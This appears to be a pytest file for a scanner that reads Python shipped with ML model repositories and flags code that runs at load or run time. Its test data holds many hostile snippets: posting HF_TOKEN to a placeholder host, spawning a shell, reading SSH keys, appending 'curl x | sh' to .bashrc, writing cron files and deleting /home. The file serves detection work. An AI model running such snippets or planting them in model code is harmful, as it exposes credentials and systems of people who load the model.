"""Python source shipped with a model: what runs at load, found by reading (never running) it."""

from __future__ import annotations

import json
import pathlib

import pytest
from conftest import by_path, threats_of

from modelsec.policy import default_rule_instances, evaluate_scan, rule_for_threat
from modelsec.scanner import scan_path
from modelsec.scanner.limits import ScanLimits
from modelsec.scanner.loadtime import scan_python
from modelsec.scanner.pysource import parse_module
from modelsec.scanner.report import FileContext
from modelsec.scanner.source import ByteSource
from modelsec.types.data import ScanDetails

CONFIG = json.dumps(
    {
        "model_type": "x",
        "auto_map": {
            "AutoConfig": "configuration_x.XConfig",
            "AutoModel": "modeling_x.XModel",
            "AutoTokenizer": ["tokenization_x.XTokenizer", None],
        },
    }
).encode()

CONFIGURATION = b"""
from transformers import PretrainedConfig


class XConfig(PretrainedConfig):
    model_type = "x"

    def __init__(self, hidden_size=8, act="gelu", **kwargs):
        self.hidden_size = hidden_size
        self.act = act
        super().__init__(**kwargs)
"""

# Ordinary modeling code: torch layers, math, logging, environment reads, getattr on torch,
# reading a file of the repository, a __main__ block that runs a process.
MODELING = b"""
import logging
import math
import os
import pickle
from typing import Optional

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import is_flash_attn_2_available

from .configuration_x import XConfig
from .layers import make_mlp

logger = logging.get_logger(__name__) if hasattr(logging, "get_logger") else logging.getLogger()


import functools
import importlib
import importlib.util
import inspect
import sys
import warnings

_flash = importlib.util.find_spec("flash_attn") is not None
_llama = importlib.import_module("transformers.models.llama")
if sys.version_info < (3, 8):
    warnings.warn("old python")
torch.fx.wrap("_act")


@torch.jit.script
def fused_gelu(x):
    return x * 0.5 * (1.0 + torch.erf(x / math.sqrt(2.0)))


def _act(name):
    return getattr(F, name)


_partial_act = functools.partial(_act, "gelu")
_sig = inspect.signature(_act)


class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config: XConfig, dropout: Optional[float] = None):
        super().__init__(config)
        self.mlp = make_mlp(config.hidden_size)
        self.act = _act(config.act)
        self.rank = int(os.environ.get("LOCAL_RANK", "0"))
        here = os.path.dirname(__file__)
        with open(os.path.join(here, "vocab.txt")) as fp:
            self.vocab = fp.read().split()
        os.makedirs(os.path.join(os.path.expanduser("~"), ".cache", "x"), exist_ok=True)
        with open(os.path.join(here, "extra.pkl"), "rb") as fp:
            self.extra = pickle.load(fp)  # a file of the model: scanned on its own
        self.post_init()

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=1 / math.sqrt(module.in_features))

    def forward(self, x):
        return self.act(self.mlp(x))


if __name__ == "__main__":
    os.system("nvidia-smi")
"""

LAYERS = b"""
import torch
from torch import nn


def make_mlp(n):
    return nn.Sequential(nn.Linear(n, n), nn.GELU(), nn.Linear(n, n))
"""

TOKENIZATION = b"""
from transformers import PreTrainedTokenizer


class XTokenizer(PreTrainedTokenizer):
    def __init__(self, vocab_file=None, **kwargs):
        super().__init__(**kwargs)
"""


def _repo(tmp_path: pathlib.Path, files: dict[str, bytes]) -> pathlib.Path:
    root = tmp_path / "model"
    for rel, data in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
    return root


def _benign() -> dict[str, bytes]:
    return {
        "config.json": CONFIG,
        "configuration_x.py": CONFIGURATION,
        "modeling_x.py": MODELING,
        "layers.py": LAYERS,
        "tokenization_x.py": TOKENIZATION,
        "vocab.txt": b"a\nb\n",
    }


def _outcome(details: ScanDetails) -> str:
    r = evaluate_scan(
        details.to_dict(), default_rule_instances("LOCAL"), source_type="LOCAL", model_uri="/m"
    )
    return r.outcome


def _all_threats(details: ScanDetails) -> set[str]:
    return {t for f in details.files for t in threats_of(f)}


def test_ordinary_custom_code_is_clean(tmp_path: pathlib.Path) -> None:
    details = scan_path(_repo(tmp_path, _benign()))
    for f in details.files:
        assert f.issues_detected == [], (f.file_path, f.issues_detected)
        assert not f.formats or "python" not in f.formats
    assert _outcome(details) == "ALLOWED"


MALICIOUS_SNIPPETS = {
    "os_system_alias": ("import os as o\no.system('id')\n", "os.system"),
    "popen_from_import": ("from subprocess import Popen as P\nP(['id'])\n", "subprocess.Popen"),
    "dunder_import": ("__import__('os').system('id')\n", "os.system"),
    "getattr_import": ("getattr(__import__('os'), 'system')('id')\n", "os.system"),
    "exec_b64": (
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "builtins.exec",
    ),
    "marshal_code": ("import marshal, zlib\nc = marshal.loads(zlib.decompress(b''))\n", ""),
    "socket": (
        "import socket\ns = socket.create_connection(('x', 1))\n",
        "socket.create_connection",
    ),
    "requests_exfil": (
        "import os, requests\nrequests.post('http://x', data=os.environ['HF_TOKEN'])\n",
        "requests.post",
    ),
    "pip_install": (
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', "
        "'install', 'evil'])\n",
        "subprocess.check_call",
    ),
    "pip_main": ("import pip\npip.main(['install', 'evil'])\n", "pip.main"),
    "computed_import": (
        "import importlib\nm = importlib.import_module(''.join(['o', 's']))\n",
        "importlib.import_module",
    ),
    "decorator": (
        "import os\ndef reg(f):\n    os.system('id')\n    return f\n@reg\ndef g():\n    pass\n",
        "os.system",
    ),
    "default_arg": ("import os\ndef f(x=os.popen('id')):\n    pass\n", "os.popen"),
    "class_body": ("import pty\nclass A:\n    pty.spawn('/bin/sh')\n", "pty.spawn"),
    "ctor": (
        "import urllib.request\nclass M:\n    def __init__(self):\n"
        "        urllib.request.urlopen('http://x')\n",
        "urllib.request.urlopen",
    ),
    "from_pretrained_helper": (
        "import shutil\nclass M:\n    @classmethod\n    def from_pretrained(cls, p):\n"
        "        cls._prep()\n    @classmethod\n    def _prep(cls):\n"
        "        shutil.rmtree('/home')\n",
        "shutil.rmtree",
    ),
    "ssh_key": (
        "class M:\n    def __init__(self):\n        self.k = open("
        "__import__('os').path.expanduser('~/.ssh/id_rsa')).read()\n",
        "",
    ),
    "builtins_dict": ("__builtins__['exec']('1')\n", "builtins.exec"),
    "getattr_builtins": (
        "import builtins\nname = 'ex' + 'ec'\ngetattr(builtins, name)('1')\n",
        "builtins.<computed>",
    ),
    "write_home": (
        "import os\nclass M:\n    def __init__(self):\n"
        "        open(os.path.expanduser('~/.bashrc'), 'a').write('curl x | sh')\n",
        "builtins.open",
    ),
    "write_abs": (
        "with open('/etc/cron.d/x', mode='w') as f:\n    f.write('x')\n",
        "builtins.open",
    ),
    "module_getattr": (
        "import subprocess\ndef __getattr__(name):\n    subprocess.run(['id'])\n",
        "subprocess.run",
    ),
    "assigned_alias": ("import os\nrun = os.system\nrun('id')\n", "os.system"),
    "alias_chain": ("import os\na = os\nb = a.system\nb('id')\n", "os.system"),
    "star_import": ("from os import *\nsystem('id')\n", "os.system"),
    "sys_modules": ("import sys\nsys.modules['os'].system('id')\n", "os.system"),
    "module_dict": ("import os\nos.__dict__['system']('id')\n", "os.system"),
    "vars_builtins": ("import builtins\nvars(builtins)['exec']('1')\n", "builtins.exec"),
    "pickle_literal": (
        "import pickle, io\nobj = pickle.load(io.BytesIO(b'cos\\nsystem\\n'))\n",
        "pickle.load",
    ),
    "pickle_loads": ("import pickle, base64\npickle.loads(base64.b64decode('eA=='))\n", ""),
    "torch_hub": (
        "import torch\nclass M:\n    def __init__(self):\n"
        "        self.m = torch.hub.load('evil/repo', 'm', trust_repo=True)\n",
        "torch.hub.load",
    ),
}


@pytest.mark.parametrize("case", sorted(MALICIOUS_SNIPPETS))
def test_malicious_load_time_code_found(case: str) -> None:
    code, dotted = MALICIOUS_SNIPPETS[case]
    ctx = FileContext("m.py", ScanLimits())
    assert scan_python(ctx, ByteSource.from_bytes(code.encode()), "m.py", executed=False)
    assert {i.threat for i in ctx.issues} == {"PAIT-PY-100"}, ctx.issues
    if dotted:
        assert any(f"{i.module}.{i.operator}" == dotted for i in ctx.issues), ctx.issues


def test_obfuscation_and_exfiltration_described() -> None:
    ctx = FileContext("m.py", ScanLimits())
    code = MALICIOUS_SNIPPETS["exec_b64"][0] + MALICIOUS_SNIPPETS["requests_exfil"][0]
    scan_python(ctx, ByteSource.from_bytes(code.encode()), "m.py", executed=False)
    text = " ".join(i.description for i in ctx.issues)
    assert "obfuscated" in text and "exfiltration" in text


def test_new_threat_codes_map_to_blocking_rules() -> None:
    assert rule_for_threat("PAIT-PY-100") == "Load Time Code Execution Check"
    assert rule_for_threat("PAIT-PY-300") == "Runtime Code Execution Check"


def test_malicious_repository_files_found_and_blocked(tmp_path: pathlib.Path) -> None:
    files = _benign()
    files["layers.py"] = LAYERS + b"\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'x'])\n"
    details = scan_path(_repo(tmp_path, files))
    assert threats_of(by_path(details)["layers.py"]) == {"PAIT-PY-100"}
    assert _outcome(details) == "BLOCKED"


def test_cross_file_helper_called_from_constructor(tmp_path: pathlib.Path) -> None:
    files = _benign()
    # make_mlp is an ordinary function of layers.py: on its own it is run-time code; called from
    # XModel.__init__ it runs at load.
    files["layers.py"] = LAYERS + b"\n    import os\n    os.system('id')\n"
    files["layers.py"] = files["layers.py"].replace(
        b"    return nn.Sequential", b"    __import__('os').system('id')\n    return nn.Sequential"
    )
    details = scan_path(_repo(tmp_path, files))
    layer = by_path(details)["layers.py"]
    assert "PAIT-PY-100" in threats_of(layer)
    assert any("called at load from modeling_x.py" in i.description for i in layer.issues_detected)


def test_runtime_code_in_reachable_file(tmp_path: pathlib.Path) -> None:
    files = _benign()
    files["modeling_x.py"] = MODELING.replace(
        b"        return self.act(self.mlp(x))",
        b"        import subprocess\n        subprocess.run(['id'])\n        return x",
    )
    details = scan_path(_repo(tmp_path, files))
    assert threats_of(by_path(details)["modeling_x.py"]) == {"PAIT-PY-300"}
    assert _outcome(details) == "BLOCKED"


def test_unreachable_script_runtime_code_not_reported(tmp_path: pathlib.Path) -> None:
    files = _benign()
    files["scripts/convert.py"] = (
        b"import subprocess\n\ndef main():\n    subprocess.run(['nvidia-smi'])\n\n"
        b"if __name__ == '__main__':\n    main()\n"
    )
    files["old_py2.py"] = b"print 'hello'\n"
    details = scan_path(_repo(tmp_path, files))
    assert by_path(details)["scripts/convert.py"].issues_detected == []
    assert by_path(details)["old_py2.py"].issues_detected == []


def test_reachable_syntax_error_fails_closed(tmp_path: pathlib.Path) -> None:
    files = _benign()
    files["tokenization_x.py"] = b"class XTokenizer(:\n"
    details = scan_path(_repo(tmp_path, files))
    f = by_path(details)["tokenization_x.py"]
    assert f.issues_detected and f.issues_detected[0].threat is None
    assert "invalid Python" in (f.error_message or "")
    assert f.modelscan_status == "ERROR"
    assert _outcome(details) == "BLOCKED"


def test_missing_or_remote_code_fails_closed(tmp_path: pathlib.Path) -> None:
    cfg = {"auto_map": {"AutoModel": "org/other--modeling_y.Y", "AutoConfig": "missing.C"}}
    details = scan_path(_repo(tmp_path, {"config.json": json.dumps(cfg).encode()}))
    issues = by_path(details)["config.json"].issues_detected or []
    text = " ".join(i.description for i in issues)
    assert "another repository" in text and "not among the scanned files" in text
    assert _outcome(details) == "BLOCKED"


def test_transitive_relative_import_reached(tmp_path: pathlib.Path) -> None:
    files = _benign()
    files["modeling_x.py"] = MODELING.replace(
        b"from .layers import make_mlp", b"from .layers import make_mlp\nfrom .sub import deep"
    )
    files["sub/__init__.py"] = b"from ..helpers import x\n"
    files["helpers.py"] = b"def x():\n    import os\n    os.system('id')\n"
    details = scan_path(_repo(tmp_path, files))
    assert threats_of(by_path(details)["helpers.py"]) == {"PAIT-PY-300"}


@pytest.mark.parametrize(
    ("name", "doc", "path"),
    [
        (
            "model_index.json",
            {"unet": ["my_unet", "MyUNet"], "vae": ["diffusers", "AutoencoderKL"]},
            "unet/my_unet.py",
        ),
        (
            "modules.json",
            [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Mod"}],
            "custom_st.py",
        ),
        (
            "tokenizer_config.json",
            {"auto_map": {"AutoTokenizer": ["tok.T", "tok.TFast"]}},
            "tok.py",
        ),
        ("config.json", {"custom_pipelines": {"x": {"impl": "pipe.P"}}}, "pipe.py"),
    ],
)
def test_other_loaders_reach_their_modules(
    tmp_path: pathlib.Path, name: str, doc: object, path: str
) -> None:
    bad = b"def f():\n    import os\n    os.system('id')\n"
    details = scan_path(_repo(tmp_path, {name: json.dumps(doc).encode(), path: bad}))
    assert threats_of(by_path(details)[path]) == {"PAIT-PY-300"}


def test_parse_never_imports(tmp_path: pathlib.Path) -> None:
    marker = tmp_path / "ran"
    code = f"open({str(marker)!r}, 'w').write('x')\n"
    parse_module(code).load_time_calls()
    ctx = FileContext("m.py", ScanLimits())
    scan_python(ctx, ByteSource.from_bytes(code.encode()), "m.py", executed=True)
    assert not marker.exists()


def test_pickle_named_py_still_sniffed(scan_files) -> None:  # type: ignore[no-untyped-def]
    import scanner_builders as B

    details = scan_files({"evil.py": B.call("os", "system")})
    assert "PAIT-PKL-100" in threats_of(by_path(details)["evil.py"])
